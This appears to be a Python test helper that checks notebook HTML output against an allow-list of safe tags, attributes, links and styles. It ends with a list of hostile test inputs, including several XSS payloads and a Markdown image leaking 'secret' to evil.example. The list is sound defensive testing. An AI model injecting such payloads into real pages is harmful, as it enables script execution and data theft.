"""Reads HTML outputs as a browser would, and says what of them could do something."""

import re
from html.parser import HTMLParser

VOID = {"br", "hr", "img", "col", "wbr"}
INLINE = {"a", "b", "bdi", "code", "del", "em", "ins", "s", "span", "strong"}
PLAIN = {
    *INLINE,
    "blockquote",
    "br",
    "details",
    "div",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "hr",
    "img",
    "li",
    "ol",
    "p",
}
PLAIN |= {"pre", "style", "summary", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "ul"}
ATTRIBUTES = {
    "alt",
    "aria-label",
    "aria-level",
    "class",
    "colspan",
    "href",
    "open",
    "rel",
    "role",
    "scope",
    "src",
    "start",
    "style",
}
ATTRIBUTES |= {"tabindex", "target", "title"}
DRAWN = {"svg", "path", "circle"}
"""Elements of a picture, which can do nothing, and have attributes of their own."""
NUMBERS = re.compile(r"[-\d. MVHQ]+|none|currentColor|true|cy-graph")

STYLE = re.compile(
    r"text-align:(left|right|center)|border(-top|-left)?:\dpx (solid|dashed) #\w+|background:#8882"
    r"|(margin|padding|padding-left|max-height|max-width):[\d. em%]+"
)


class Page(HTMLParser):
    """The elements and the text of an output."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.elements = []
        self.open = []
        self.texts = []
        self.css = ""
        self.errors = []
        self.feed(html)
        self.close()
        if self.open:
            self.errors.append(f"not closed: {self.open}")

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, dict(attrs)))
        self.texts.append("" if tag in INLINE else " ")
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag):
        if not self.open or self.open.pop() != tag:
            self.errors.append(f"</{tag}> closes nothing")
        self.texts.append("" if tag in INLINE else " ")

    def handle_data(self, data):
        if self.open and self.open[-1] == "style":
            self.css += data
        else:
            self.texts.append(data)

    def handle_comment(self, data):
        self.errors.append(f"comment {data!r}")

    def handle_decl(self, decl):
        self.errors.append(f"declaration {decl!r}")

    @property
    def text(self):
        """All text, blanks squeezed."""
        return " ".join("".join(self.texts).split())

    def tags(self, name):
        """Return the attributes of all elements of a kind."""
        return [attributes for tag, attributes in self.elements if tag == name]

    def has_class(self, name):
        """Return the attributes of all elements that have a class."""
        return [attributes for _, attributes in self.elements if name in (attributes.get("class") or "").split()]


def read(html):
    """Return an output as a `Page`, after making sure that nothing in it can act, load or reach out of it."""
    page = Page(html)
    assert page.errors == []
    for tag, attributes in page.elements:
        if tag in DRAWN:
            assert all(NUMBERS.fullmatch(value) for value in attributes.values()), attributes
            continue
        assert tag in PLAIN, f"<{tag}>"
        assert set(attributes) <= ATTRIBUTES, f"<{tag} {attributes}>"
        if "href" in attributes:
            assert re.match(r"(https?://|mailto:)", attributes["href"]), attributes
        if "src" in attributes:
            assert re.match(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]*$", attributes["src"]), attributes
        if "style" in attributes:
            assert all(STYLE.fullmatch(part) for part in attributes["style"].split(";")), attributes
    assert len(page.tags("style")) <= 1
    assert "url(" not in page.css
    assert "@import" not in page.css
    return page


def shown(value):
    """Return what a notebook shows of a value, as a `Page` and as plain text."""
    bundle = value._repr_mimebundle_()
    assert set(bundle) - {"application/vnd.cyclops.run+json"} == {"text/html", "text/plain"}
    return read(bundle["text/html"]), bundle["text/plain"]


HOSTILE = [
    "<img src=x onerror=alert(1)>",
    "</pre></style><script>alert(1)</script>",
    "[x](javascript:alert(1)) ![a](http://evil.example/?q=secret)",
    "\"><svg onload=alert(1)> ' onclick='alert(1)",
    "<details open ontoggle=alert(1)><thinking>",
    "</details></div></td></tr></table><!-- <a href=//evil.example data-commandlinker-command=x id=y style=position:fixed>",
    "{0} {} {x.__class__} %s \x1b[31m \u202e \x00 \ud800",
]
"""Texts that would do something if they were taken for HTML, Markdown or a template."""
